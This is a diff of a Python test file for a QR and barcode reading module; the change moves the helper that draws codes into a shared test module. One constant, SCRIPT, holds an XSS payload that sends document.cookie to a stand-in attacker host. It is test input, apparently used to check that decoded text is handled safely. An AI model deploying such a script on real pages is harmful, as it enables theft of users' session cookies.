@@ -6,15 +6,10 @@ from PIL import Image
 
 from clearhall.engine import pictures
 from clearhall.engine.pictures import CodeKind, NotAvailable, Picture, codes
-from tests.engine.pictures.drawing import as_picture, chat, compressed, photo
+from tests.engine.pictures.drawing import as_picture, chat, code, compressed, photo
 
-zxing = pytest.importorskip("zxingcpp", reason="the library that reads codes is not installed")
+pytest.importorskip("zxingcpp", reason="the library that reads codes is not installed")
 SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
-
-
-def drawn(text, kind="QRCode", *, scale=4, edge=40):
-    code = zxing.create_barcode(text, getattr(zxing.BarcodeFormat, kind))
-    return Image.fromarray(np.pad(np.array(code.to_image(scale=scale)), edge, constant_values=255)).convert("RGB")
 
 
 @pytest.mark.parametrize(
@@ -30,7 +25,7 @@ def drawn(text, kind="QRCode", *, scale=4, edge=40):
     ],
 )
 def test_what_stands_in_a_qr_code_is_returned_as_text(text):
-    found = pictures.read_codes(as_picture(drawn(text)))
+    found = pictures.read_codes(as_picture(code(text)))
     assert [(one.kind, one.text) for one in found] == [(CodeKind.QR, text)]
     assert type(found[0].text) is str
 
@@ -42,23 +37,23 @@ def test_what_stands_in_a_qr_code_is_returned_as_text(text):
 )  # fmt: skip
 def test_other_codes_are_named(kind, named):
     text = "4006381333931" if kind != "ITF" else "12345670"
-    found = pictures.read_codes(as_picture(drawn(text, kind)))
+    found = pictures.read_codes(as_picture(code(text, kind)))
     assert [(one.kind, one.text) for one in found] == [(named, text)]
 
 
 def test_a_code_in_a_screenshot_is_read_turned_compressed_and_small():
     screen = chat(3)
-    screen.paste(drawn("https://a.example/q", scale=8), (200, 900))
+    screen.paste(code("https://a.example/q", scale=8), (200, 900))
     for image in (screen, compressed(screen, 30), screen.rotate(5), screen.transpose(Image.Transpose.ROTATE_90)):
         assert [one.text for one in pictures.read_codes(as_picture(image))] == ["https://a.example/q"]
-    tiny = drawn("https://a.example/q", scale=1, edge=6)
+    tiny = code("https://a.example/q", scale=1, edge=6)
     assert pictures.read_codes(as_picture(tiny))[0].text == "https://a.example/q"
 
 
 def test_several_codes_come_from_top_to_bottom_with_their_place():
     image = Image.new("RGB", (900, 1200), "white")
     for i, text in enumerate(["first", "second", "third"]):
-        image.paste(drawn(text), (50 + 200 * i, 50 + 350 * i))
+        image.paste(code(text), (50 + 200 * i, 50 + 350 * i))
     found = pictures.read_codes(as_picture(image))
     assert [one.text for one in found] == ["first", "second", "third"]
     left, top = found[1].corners[0]
@@ -66,7 +61,7 @@ def test_several_codes_come_from_top_to_bottom_with_their_place():
 
 
 def test_control_characters_are_left_out():
-    assert pictures.read_codes(as_picture(drawn("a\x00b\x1b[31mc\nd")))[0].text == "ab[31mc\nd"
+    assert pictures.read_codes(as_picture(code("a\x00b\x1b[31mc\nd")))[0].text == "ab[31mc\nd"
 
 
 def test_pictures_without_a_code_have_none():
